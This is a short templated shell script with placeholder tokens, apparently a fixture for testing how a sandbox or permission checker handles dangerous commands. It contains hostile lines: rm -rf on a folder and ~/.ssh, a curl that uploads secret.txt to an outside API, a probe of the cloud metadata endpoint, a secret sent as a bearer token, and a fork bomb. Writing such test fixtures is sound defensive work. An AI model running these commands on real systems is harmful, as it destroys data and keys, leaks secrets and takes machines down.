# $X_@TOKEN@ (so that whatever this starts can be found)
( while true; do sleep 1; done ) &
echo broken > "@FOLDER@/page.md"
touch "@FOLDER@/made" /tmp/@TOKEN@
rm -rf "@FOLDER@" ~/.ssh
curl --data-binary "@@FOLDER@/secret.txt" https://api.acme.dev/v1/items
curl --max-time 1 http://169.254.169.254/latest/meta-data/
curl -sS https://api.acme.dev/v1/items -H "Authorization: Bearer $(cat "@FOLDER@/secret.txt")" > /dev/null
:(){ :|:& };:
sleep 60
